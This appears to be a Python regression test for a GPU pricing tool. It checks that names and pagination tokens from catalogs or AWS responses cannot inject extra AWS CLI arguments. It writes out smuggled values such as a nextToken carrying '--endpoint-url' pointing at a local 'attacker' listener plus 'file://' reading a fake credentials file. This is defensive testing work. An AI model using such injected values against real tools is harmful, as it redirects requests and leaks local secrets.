#!/usr/bin/env python3
"""Issue 43, findings 1 and 2, end to end through the real AWS CLI with fake credentials: a name
in a shared file or a token in an AWS answer must never add AWS CLI arguments, so nothing reaches a
second host and no local file is read into a request.

Two listeners on 127.0.0.1: the local AWS (fake_aws_prices.py, moto for the rest) and an
"attacker" that records every connection. A secret file holds a marker.
  0. The detector works: the AWS CLI itself, given a second --endpoint-url, connects to the
     attacker (so a zero count below means something).
  1. An AWS answer's nextToken "0 --endpoint-url http://ATTACKER --filters file://SECRET" (the
     Savings Plans pager used to split it into arguments): refused as a token, the call named,
     exit 3; the attacker sees nothing, the local AWS never sees the marker.
  2. A catalog naming a type "p9.48xlarge --endpoint-url http://ATTACKER --instance-type
     file://SECRET": as --catalog, exit 2 naming .instance_type; as the user catalog that
     `catalog update --aws` refreshes, refused and named, the update starting again from the
     embedded catalog, whose names alone reach the AWS CLI.
  3. `catalog import --instance-types` of a DescribeInstanceTypes answer with that name: exit 2.
  4. `account scan --spot-scores file://SECRET` and a region with an option in it: exit 2.

Usage: aws_injection_test.py PATH/TO/gpuadvisor. Exit 77 (skipped) without moto or the AWS CLI.
"""
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

import aws_test_env

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
TODAY = "2026-12-04"
MARKER = "SECRET-MARKER-ISSUE-43"
# Few accelerator types and no Capacity Blocks there: a short update.
REGION = "ap-south-2"
failures = []


def check(cond, what):
    if not cond:
        failures.append(what)
        print("FAIL:", what)


class Attacker:
    """Accepts connections on 127.0.0.1 and keeps what each sent."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.received = []
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(2)
            data = b""
            try:
                while len(data) < 1 << 20:
                    chunk = conn.recv(65536)
                    if not chunk:
                        break
                    data += chunk
            except OSError:
                pass
            self.received.append(data)
            conn.close()

    def url(self):
        return "http://127.0.0.1:%d" % self.port


def main():
    binary = os.path.abspath(sys.argv[1])
    why = aws_test_env.missing()
    if why:
        print(f"aws_injection_test: SKIPPED: {why}")
        return 77
    tmp = tempfile.mkdtemp(prefix="gpuadvisor-aws-injection-")
    secret = os.path.join(tmp, "credentials")
    with open(secret, "w") as f:
        f.write("[default]\naws_secret_access_key = " + MARKER + "\n")
    calls = os.path.join(tmp, "calls.jsonl")
    faults = os.path.join(tmp, "faults")
    attacker = Attacker()
    fake, fake_url = aws_test_env.start(tmp, "fake_aws_prices", lambda port: [
        port, "--today", TODAY, "--log", calls, "--faults", faults, "--sp-page-size", "100"])
    try:
        if fake_url is None:
            print("aws_injection_test: the fake AWS did not start:",
                  open(os.path.join(tmp, "fake_aws_prices.log")).read())
            return 1
        env = aws_test_env.clean_env(tmp, TODAY)

        def run(*args):
            return subprocess.run([binary, *args], env=env, capture_output=True, text=True,
                                  timeout=300)

        def seen_by_aws():
            return open(calls).read() if os.path.exists(calls) else ""

        # --- 0. The detector: the AWS CLI given a second --endpoint-url goes there.
        r = subprocess.run(["aws", "--output", "json", "--endpoint-url", fake_url, "--region",
                            "us-east-1", "savingsplans", "describe-savings-plans-offering-rates",
                            "--next-token", "0", "--endpoint-url", attacker.url()],
                           env=env, capture_output=True, text=True, timeout=60)
        for _ in range(20):
            if attacker.received:
                break
            time.sleep(0.1)
        check(len(attacker.received) >= 1,
              "the detector: the AWS CLI given a second --endpoint-url connects to it "
              f"({len(attacker.received)} connections; aws: {r.stderr.strip()[:200]})")
        attacker.received.clear()

        # --- 1. A hostile nextToken in the Savings Plans answer.
        hostile = "0 --endpoint-url %s --filters file://%s" % (attacker.url(), secret)
        with open(faults, "w") as f:
            f.write("sp-next-token " + hostile + "\n")
        r = run("catalog", "update", "--aws", "--endpoint-url", fake_url, "--endpoint", fake_url,
                "--regions", REGION, "--json")
        report = {}
        try:
            report = json.loads(r.stdout)
        except ValueError:
            pass
        sp = next((o for o in report.get("outcomes", [])
                   if o.get("what") == REGION + " savings-plan-rates"), {})
        check(sp.get("result") == "failed" and
              "nextToken: expected a pagination token" in sp.get("error", ""),
              f"the hostile token refused and named: {sp}")
        check(r.returncode == 3, f"exit 3 (a call failed): {r.returncode}: {r.stderr[-300:]}")
        sent = seen_by_aws()
        sp_calls = sent.count("DescribeSavingsPlansOfferingRates")
        check(sp_calls == 1, f"no second Savings Plans page asked for: {sp_calls} calls")
        check(MARKER not in sent, "the secret file's content never reached the local AWS")
        check(attacker.received == [],
              f"nothing reached the second host: {len(attacker.received)} connections")
        os.remove(faults)

        # --- 2. A hostile name in the catalog (the user catalog an update refreshes, --catalog).
        catalog = json.load(open(os.path.join(REPO, "data", "catalog.json")))
        bad_name = "p9.48xlarge --endpoint-url %s --instance-type file://%s" % (attacker.url(),
                                                                               secret)
        target = next(t for t in catalog["instance_types"]
                      if any(o["region"] == REGION for o in t.get("regions", [])))
        target["instance_type"] = bad_name
        user = os.path.join(tmp, "xdg", "gpuadvisor", "catalog.json")
        os.makedirs(os.path.dirname(user), exist_ok=True)
        with open(user, "w") as f:
            json.dump(catalog, f)
        hostile_copy = os.path.join(tmp, "hostile-catalog.json")
        shutil.copy(user, hostile_copy)
        r = run("instances", "--catalog", hostile_copy, "--json")
        check(r.returncode == 2 and ".instance_type: expected an EC2 instance type" in r.stderr,
              f"--catalog with a hostile name: exit 2 ({r.returncode}: {r.stderr})")
        # The update refuses the user catalog, names why, and starts again from the embedded one:
        # the AWS CLI is only ever given the embedded catalog's names.
        before = seen_by_aws()
        r = run("catalog", "update", "--aws", "--endpoint-url", fake_url, "--endpoint", fake_url,
                "--regions", REGION)
        check(".instance_type: expected an EC2 instance type" in r.stderr
              and "starting again from the embedded catalog" in r.stderr,
              f"update of a hostile user catalog: refused and named ({r.returncode}: {r.stderr})")
        sent = seen_by_aws()[len(before):]
        check("p9.48xlarge" not in sent and MARKER not in sent and "DescribeSpotPriceHistory" in sent,
              "the AWS CLI was given the embedded catalog's names only")
        check(attacker.received == [],
              f"nothing reached the second host: {len(attacker.received)} connections")
        os.remove(user)

        # --- 3. A DescribeInstanceTypes answer with that name, imported.
        dit = json.load(open(os.path.join(REPO, "tests", "catalog", "fixtures",
                                          "describe-instance-types-new-type.json")))
        dit["InstanceTypes"][0]["InstanceType"] = bad_name
        path = os.path.join(tmp, "dit.json")
        with open(path, "w") as f:
            json.dump(dit, f)
        out = os.path.join(tmp, "imported.json")
        r = run("catalog", "import", "--catalog", "embedded", "--instance-types", path, "--out",
                out)
        check(r.returncode == 2 and "InstanceTypes[0].InstanceType" in r.stderr
              and not os.path.exists(out),
              f"import of a hostile name: exit 2 naming it, nothing written "
              f"({r.returncode}: {r.stderr})")

        # --- 4. account scan's own options.
        for args, field in ((["--spot-scores", "file://" + secret], "spot-scores"),
                            (["--regions", "us-east-1 --endpoint-url " + attacker.url()],
                             "regions")):
            r = run("account", "scan", "--endpoint-url", fake_url, "--out",
                    os.path.join(tmp, "scan.json"), *(["--regions", "us-east-1"]
                                                      if field != "regions" else []), *args)
            check(r.returncode == 2 and field in r.stderr,
                  f"account scan {args}: exit 2 naming {field} ({r.returncode}: {r.stderr})")
        check(attacker.received == [],
              f"nothing reached the second host: {len(attacker.received)} connections")
    finally:
        fake.kill()
        fake.wait()
    if failures:
        print(f"aws_injection_test: {len(failures)} failure(s); files kept in {tmp}")
        return 1
    shutil.rmtree(tmp, ignore_errors=True)
    print("aws_injection_test: ok")
    return 0


if __name__ == "__main__":
    sys.exit(main())
